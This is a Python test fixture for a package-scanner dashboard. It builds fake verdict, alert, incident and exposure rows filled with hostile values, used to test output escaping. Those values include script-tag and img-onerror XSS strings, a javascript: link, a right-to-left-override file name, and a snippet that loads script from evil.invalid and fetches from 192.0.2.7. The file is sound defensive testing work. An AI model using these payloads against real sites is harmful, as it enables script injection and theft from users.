"""Rows for the page tests: a read model that serves what the test built, hostile values included.

The pages only see :class:`~chainwatch.serve.queries.ReadModel`'s rows and documents, so these
tests build the rows themselves and check what the browser gets. Every value a package author
controls carries markup, a ``javascript:`` link or a bidi override (U+202E).
"""

from __future__ import annotations

from typing import Any

from chainwatch.serve.queries import (
    AlertRow,
    DecisionRow,
    DeliveryRow,
    EnvironmentRow,
    ExposureRow,
    IncidentRow,
    Overview,
    Page,
    ReadModel,
    VerdictRow,
)

#: markup that must arrive as text, never as an element or attribute
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(2)>'
JS_LINK = "javascript:alert(3)"
RLO = "lib/\u202etxt.exe"  # shows as lib/exe.txt in a bidi-aware renderer
SNIPPET = '</code></pre><script src="http://evil.invalid/x.js"></script>fetch("http://192.0.2.7/")'

HOSTILE_NAME = f"evil{SCRIPT}"
HOSTILE_PATH = f"{RLO}{IMG}"


def scan_doc(name: str = HOSTILE_NAME, version: str = "1.0.1", findings: int = 2) -> dict[str, Any]:
    """A ``chainwatch.scan/1`` document as the scanner writes it, with hostile values."""
    base = [{"rule": "install-script-network", "severity": "high", "technique": "T1105",
             "capability": "network", "message": f"fetches a payload {IMG}",
             "file": HOSTILE_PATH, "line": 3, "snippet": SNIPPET, "reference": JS_LINK,
             "preexisting": False, "install_time": True},
            {"rule": "obfuscated-code", "severity": "medium", "technique": "T1027",
             "capability": "obfuscation", "message": "hex-encoded strings",
             "file": "index.js", "line": 12, "snippet": "var _0x1 = '\\x68';",
             "reference": "https://attack.mitre.org/techniques/T1027/",
             "preexisting": False, "install_time": False}]
    return {
        "schema": "chainwatch.scan/1", "package": name, "version": version, "baseline": "1.0.0",
        "verdict": "malicious", "score": 87, "explanation": f"new install script {SCRIPT}",
        "source": JS_LINK, "integrity": "sha512-" + "A" * 86 + "==", "origin": "registry",
        "findings": (base * (findings // 2 + 1))[:findings],
        "capabilities": {"added": ["network", "child_process"], "removed": ["fs"],
                         "present": ["network", "child_process"]},
        "metadata_signals": [{"rule": "maintainer-change", "severity": "medium",
                              "message": f"new publisher {SCRIPT}"}],
        "publisher": f"mallory{IMG}", "published": "2025-09-08T13:16:00Z",
        "payload": {"fingerprints": [], "indicators": {}},
        "changes": {"files": {"added": [HOSTILE_PATH, "setup.js"], "changed": ["index.js"],
                              "removed": [], "unchanged": 4},
                    "dependencies": {"added": {HOSTILE_NAME: "^1.0.0"}, "removed": {}},
                    "scripts": {"added": {"postinstall": f"node setup.js {SCRIPT}"},
                                "changed": {}}},
    }


def brief_doc(incident_id: str = "inc-1") -> dict[str, Any]:
    return {
        "schema": "chainwatch.brief/1", "incident": incident_id, "title": f"Takeover {SCRIPT}",
        "level": "malicious", "generated_at": "2025-09-08T15:00:00+00:00",
        "bluf": {"text": f"We assess with high confidence {IMG}", "refs": [f"ref {SCRIPT}"]},
        "hypotheses": {"winner": "H1", "confidence": "high", "why": "x",
                       "ranking": [{"id": "H1", "title": "Account takeover", "inconsistent": 0,
                                    "consistent": 4}], "evidence": []},
        "implications": [{"text": "Anyone who installed it may have run the code.", "refs": []}],
        "recommendations": [{"text": "Pin every affected package.", "refs": ["H1"]}],
        "red_flags": [], "assumptions": [], "bias_check": [],
        "entities": {"accounts": ["mallory"], "packages": [
            {"package": HOSTILE_NAME, "version": "1.0.1", "level": "malicious",
             "integrity": None, "published": "2025-09-08T13:16:00Z", "publisher": "mallory"}]},
        "indicators": {"packages": [], "hosts": [f"c2{IMG}.invalid"]},
        "timeline": [{"time": "2025-09-08T13:16:00Z", "event": f"published {SCRIPT}", "ref": "x"}],
    }


VERDICT_ROWS = [
    VerdictRow(key="sha512-" + "A" * 86 + "==", package=HOSTILE_NAME, version="1.0.1",
               integrity="sha512-" + "A" * 86 + "==", level="malicious", score=87,
               baseline="1.0.0", top_rule="install-script-network", top_message=IMG,
               scanned_at="2025-09-08T13:20:00Z"),
    VerdictRow(key="chalk@5.6.1", package="chalk", version="5.6.1", integrity=None,
               level="suspicious", score=40, baseline="5.6.0", top_rule="obfuscated-code",
               top_message="hex strings", scanned_at="2025-09-08T13:18:00Z"),
    VerdictRow(key="@scope/pkg@2.0.0", package="@scope/pkg", version="2.0.0", integrity=None,
               level="benign", score=0, baseline=None, top_rule=None, top_message=None,
               scanned_at="2025-09-08T13:10:00Z"),
]

ALERTS = [AlertRow(id=f"release:{HOSTILE_NAME}@1.0.1", kind="release", created_at=1757337600.0,
                   payload={"package": HOSTILE_NAME, "version": "1.0.1", "verdict": "malicious",
                            "integrity": "sha512-" + "A" * 86 + "==",
                            "action": f"pin it {SCRIPT}"},
                   deliveries=[DeliveryRow("slack:…a1b2", "sent", 1, 1757337601.0, None),
                               DeliveryRow("webhook:…ff00", "failed", 3, None, f"HTTP 500 {IMG}")]),
          AlertRow(id="burst:mallory:1", kind="burst", created_at=1757337500.0,
                   payload={"publisher": f"mallory{IMG}", "verdict": "suspicious"})]


class RowsModel(ReadModel):
    """A read model over rows the test built (no database)."""

    def __init__(self, verdicts: list[VerdictRow] | None = None,
                 docs: dict[str, dict[str, Any]] | None = None) -> None:
        self.rows = VERDICT_ROWS if verdicts is None else verdicts
        self.docs = docs if docs is not None else {VERDICT_ROWS[0].key: scan_doc()}
        self.calls: list[tuple[str, dict[str, Any]]] = []

    def verdicts(self, *, package: str | None = None, level: str | None = None,
                 since: str | None = None, limit: int = 50,
                 cursor: str | None = None) -> Page[VerdictRow]:
        self.calls.append(("verdicts", {"package": package, "level": level, "since": since,
                                        "limit": limit, "cursor": cursor}))
        if since is not None and len(since) != 10:
            raise ValueError(f"since must be a date (YYYY-MM-DD), not {since!r}")
        rows = [r for r in self.rows if (package is None or r.package == package)
                and (level is None or r.level == level)]
        start = int(cursor) if cursor else 0
        more = start + limit < len(rows)
        return Page(rows[start:start + limit], str(start + limit) if more else None)

    def verdict(self, key: str) -> dict[str, Any] | None:
        return self.docs.get(key)

    def alerts(self, *, limit: int = 50, cursor: str | None = None) -> Page[AlertRow]:
        return Page(ALERTS[:limit], None)

    def incidents(self) -> list[IncidentRow]:
        return [IncidentRow(id="inc-1", title=f"Takeover {SCRIPT}", level="malicious", size=2,
                            first_published="2025-09-08T13:16:00Z",
                            last_published="2025-09-08T13:30:00Z", hypothesis="H1",
                            confidence="high", updated_at="2025-09-08T15:00:00Z")]

    def incident(self, incident_id: str) -> dict[str, Any] | None:
        return brief_doc(incident_id) if incident_id == "inc-1" else None

    def incident_html(self, incident_id: str) -> str | None:
        return None

    def exposure(self, spec: str) -> list[ExposureRow]:
        if "@" not in spec.lstrip("@"):
            raise ValueError(f"{spec!r} is not name@version or name@range")
        name = spec.rsplit("@", 1)[0]
        if name != "chalk":
            return []
        return [ExposureRow(label=f"web-app{SCRIPT}", kind="npm", source=HOSTILE_PATH,
                            name="chalk", version="5.6.1", dev=False,
                            path=f"web-app > {HOSTILE_NAME} > chalk",
                            first_seen="2025-09-08T14:00:00Z", last_seen="2025-09-09T09:00:00Z")]

    def environments(self, *, limit: int = 50, cursor: str | None = None) -> Page[EnvironmentRow]:
        return Page([EnvironmentRow(pk=1, label=f"web-app{SCRIPT}", kind="npm",
                                    source=HOSTILE_PATH, recorded_at="2025-09-08T14:00:00Z",
                                    packages=812)], None)

    def decisions(self, *, action: str | None = None, limit: int = 50,
                  cursor: str | None = None) -> Page[DecisionRow]:
        rows = [DecisionRow(pk=1, time="2025-09-08T14:05:00Z", origin="proxy",
                            package=HOSTILE_NAME, version="1.0.1", action="block",
                            rule="verdict", reason=f"malicious {SCRIPT}", source=HOSTILE_PATH),
                DecisionRow(pk=2, time="2025-09-08T14:06:00Z", origin="check", package="chalk",
                            version="5.6.1", action="warn", rule="min-age",
                            reason="published 2 h ago", source="package-lock.json")]
        return Page([r for r in rows if action is None or r.action == action][:limit], None)

    def overview(self, days: int = 14) -> Overview:
        per_day = [(f"2025-09-{d:02d}", {"benign": d, "suspicious": d % 3, "malicious": d % 2})
                   for d in range(1, days + 1)]
        latency = [(f"2025-09-{d:02d}", None if d == 3 else 60.0 * d) for d in range(1, days + 1)]
        return Overview(counts={"benign": 1, "suspicious": 1, "malicious": 1, "alerts": 2,
                                "incidents": 1, "environments": 1, "blocked": 1},
                        verdicts_per_day=per_day, latency_per_day=latency,
                        latest_alerts=ALERTS, latest_flagged=VERDICT_ROWS[:2])
